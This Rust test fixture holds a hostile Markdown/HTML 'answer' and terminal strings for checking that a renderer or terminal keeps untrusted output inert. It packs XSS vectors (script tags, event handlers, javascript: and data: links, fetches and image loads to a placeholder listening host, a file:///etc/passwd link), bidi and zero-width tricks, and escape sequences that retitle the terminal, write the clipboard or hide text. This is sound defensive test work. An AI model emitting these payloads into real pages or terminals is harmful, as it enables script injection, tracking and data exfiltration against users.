//! Texts that a page or a terminal would obey, or an eye would misread.

/// Markup, addresses and styles in every place of an answer where they could be taken for more than text. `AT` stands for an
/// address that listens.
const ANSWER: &str = r#"# Heading <img src="http://AT/heading.png" onerror="window.pwned = 'heading'"> &lt;script&gt;

<img src="http://AT/img.png" onerror="window.pwned = 'img'" onload="window.pwned = 'img'">
<script>window.pwned = 'script'; document.title = 'owned'; fetch('http://AT/fetch')</script>
<script src="http://AT/script.js"></script>
<iframe src="http://AT/frame.html"></iframe><iframe srcdoc="<script>parent.pwned = 'srcdoc'</script>"></iframe>
<link rel="stylesheet" href="http://AT/style.css"><link rel="preconnect" href="http://AT/"><link rel="dns-prefetch" href="//AT/">
<style>@import url(http://AT/import.css); body { display: none; background: url(http://AT/background.png) }</style>
<svg onload="window.pwned = 'svg'"><image href="http://AT/svg.png"/><use href="http://AT/use.svg#a"/></svg>
<video src="http://AT/video.mp4" poster="http://AT/poster.png" autoplay></video><audio src="http://AT/audio.ogg" autoplay></audio>
<form action="http://AT/form" method="post"><input autofocus onfocus="window.pwned = 'focus'"><button>Approve</button></form>
<meta http-equiv="refresh" content="0; url=http://AT/refresh"><base href="http://AT/">
<object data="http://AT/object.swf"></object><embed src="http://AT/embed.swf">
<a href="http://AT/anchor" ping="http://AT/ping" target="_blank">press me</a>
<div style="position: fixed; inset: 0; background: url('http://AT/div.png')" data-testid="approve">over everything</div>

An inline <b onmouseover="window.pwned = 'hover'">bold</b>, an entity &lt;img src=http://AT/entity.png&gt;, and &#60;script&#62;.

![a picture](http://AT/markdown.png "title <img src=http://AT/title.png>") ![reference][picture]
![data](data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%20onload='alert(1)'/%3E)

[web](http://AT/link "a title with <img src=http://AT/link-title.png>") [script](javascript:window.pwned='link')
[data](data:text/html,<script>window.pwned='data'</script>) [file](file:///etc/passwd) [vb](vbscript:x) [rel](//AT/relative)
<http://AT/autolink> http://AT/bare [reference][there] [shown as http://good.example/](http://AT/other)

[picture]: http://AT/reference.png
[there]: http://AT/reference "title"

| a | <img src=http://AT/th.png> |
|---|---|
| <script>window.pwned = 'cell'</script> | ![cell](http://AT/cell.png) |

```html<img/src=http://AT/info.png/onerror=window.pwned='info'>
<script src="http://AT/code.js"></script>
```

`<img src=http://AT/span.png>` and bidi TRICKS
"#;

/// Characters that reorder, hide, or steer a terminal.
pub(super) const TRICKS: &str =
    "[\u{202e}txt.exe\u{202c}|\u{2066}x\u{2069}|zero\u{200b}width|\u{feff}|\u{1b}[31mred\u{1b}[0m]";

/// Sequences that a terminal would obey: a title, a link, the clipboard, the screen, the cursor.
pub(super) const SEQUENCES: &str = "\u{1b}]0;owned\u{7}\u{1b}]2;owned\u{1b}\\\u{1b}]8;;http://AT/osc8\u{1b}\\link\u{1b}]8;;\u{1b}\\\
    \u{1b}]52;c;b3duZWQ=\u{7}\u{1b}[2J\u{1b}[H\u{1b}[?1049h\u{1b}[8mhidden\u{1b}[0m\u{9b}31m\u{90}q\u{9c}";

/// Markup for places that hold a line.
pub(super) const MARKUP: &str =
    "<img src=http://AT/place.png onerror=window.pwned=1><script>window.pwned=1</script>";

/// A text with the address in its places.
pub(super) fn at(text: &str, address: impl std::fmt::Display) -> String {
    text.replace("AT", &address.to_string())
}

/// The answer.
pub(super) fn answer(address: impl std::fmt::Display) -> String {
    at(ANSWER, address).replace("TRICKS", TRICKS)
}
